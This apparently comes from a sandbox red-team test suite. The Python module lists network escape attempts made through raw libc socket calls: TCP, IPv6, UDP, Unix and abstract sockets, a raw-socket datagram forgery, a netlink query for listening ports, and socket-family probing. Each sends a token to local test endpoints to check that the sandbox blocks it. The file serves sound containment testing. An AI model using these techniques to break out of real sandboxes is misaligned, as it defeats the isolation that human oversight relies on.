"""Attacks that leave by a socket, of every family there is."""

from tests.sandbox.redteam.attack import Attack
from tests.sandbox.redteam.proofs import changes, holds, reaches

_SUBJECT = "network"
#: The C library's functions; Python's module may not be loaded, the way out is the same.
_SOCKET = """\
room()
def port(number):
    return struct(">H", number)
def address(family, rest):
    return struct("H", family) + rest
token = aim["token"].encode()
def connect(family, kind, where):
    descriptor = libc.socket(family, kind, 0)
    print(libc.connect(descriptor, where, len(where)), libc.send(descriptor, token, len(token), 0))
"""
_ANY_FAMILY = """\
families = [family for family in range(1, 47) for kind in (1, 2, 3, 5) if libc.socket(family, kind, 0) >= 0]
print(families, aim["claim"] if families else "")
"""
_PAIR = """\
pair = (ctypes.c_int * 2)()
if libc.socketpair(1, 1, 0, pair) == 0:
    print(aim["claim"])
"""


def _attack(name: str, source: str, rests_on: str = "") -> Attack:
    return Attack(name, _SUBJECT, _SOCKET + source, reaches, rests_on=rests_on, ruins_session=True)


ATTACKS = (
    _attack(
        "connect by TCP",
        "connect(2, 1, address(2, port(aim['tcp_port']) + bytes([127, 0, 0, 1]) + bytes(8)))\n",
    ),
    _attack(
        "connect by TCP over IPv6",
        "connect(10, 1, address(10, port(aim['tcp6_port']) + bytes(19) + bytes([1]) + bytes(4)))\n",
        rests_on="IPv6",
    ),
    _attack(
        "TCP fast open, without connect",
        """\
where = address(2, port(aim["tcp_port"]) + bytes([127, 0, 0, 1]) + bytes(8))
descriptor = libc.socket(2, 1, 0)
print(libc.sendto(descriptor, token, len(token), 0x20000000, where, len(where)))
""",
        rests_on="TCP fast open",
    ),
    _attack(
        "send a UDP datagram",
        """\
where = address(2, port(aim["udp_port"]) + bytes([127, 0, 0, 1]) + bytes(8))
print(libc.sendto(libc.socket(2, 2, 0), token, len(token), 0, where, len(where)))
""",
    ),
    _attack(
        "connect to a socket with a path",
        "connect(1, 1, address(1, aim['unix_path'].encode() + bytes(1)))\n",
    ),
    _attack(
        "connect to an abstract socket",
        "connect(1, 1, address(1, bytes(1) + aim['abstract'].encode()))\n",
    ),
    _attack(
        "send to an abstract datagram socket",
        """\
where = address(1, bytes(1) + aim["abstract"].encode() + b"-datagrams")
print(libc.sendto(libc.socket(1, 2, 0), token, len(token), 0, where, len(where)))
""",
    ),
    Attack(
        "listen at a port",
        _SUBJECT,
        _SOCKET + "descriptor = libc.socket(2, 1, 0)\n"
        "where = address(2, port(aim['free_port']) + bytes([127, 0, 0, 1]) + bytes(8))\n"
        "print(libc.bind(descriptor, where, len(where)), libc.listen(descriptor, 5))\n",
        changes("port"),
        ruins_session=True,
    ),
    Attack(
        "forge a datagram on a raw socket",
        _SUBJECT,
        _SOCKET
        + """\
data = port(aim["udp_port"]) + port(aim["udp_port"]) + port(8 + len(token)) + bytes(2) + token
where = address(2, bytes(2) + bytes([127, 0, 0, 1]) + bytes(8))
print(libc.sendto(libc.socket(2, 3, 17), data, len(data), 0, where, len(where)))
""",
        reaches,
        needs_root=True,
        ruins_session=True,
    ),
    Attack(
        "ask netlink who listens",
        _SUBJECT,
        _SOCKET
        + """\
# A dump of listening TCP sockets: family, protocol, states, and an empty socket to match.
descriptor = libc.socket(16, 3, 4)
request = struct("IHHII", 72, 20, 0x301, 1, 0) + struct("BBBBI", 2, 6, 0, 0, 1 << 10) + bytes(48)
libc.send(descriptor, request, len(request), 0)
buffer = ctypes.create_string_buffer(65536)
count = libc.recv(descriptor, buffer, 65536, 0)
found = buffer.raw[:max(0, count)]
while len(found) > 20:
    print(int.from_bytes(found[20:22], "big"))
    found = found[int.from_bytes(found[:4], sys.byteorder):]
""",
        lambda seen: str(seen.aim["tcp_port"]) in seen.said,
        ruins_session=True,
    ),
    Attack(
        "open a socket of any family",
        _SUBJECT,
        _ANY_FAMILY,
        holds("socket:", 3),
    ),
    Attack(
        "make a pair of sockets",
        _SUBJECT,
        _PAIR,
        holds("socket:", 2),
    ),
)
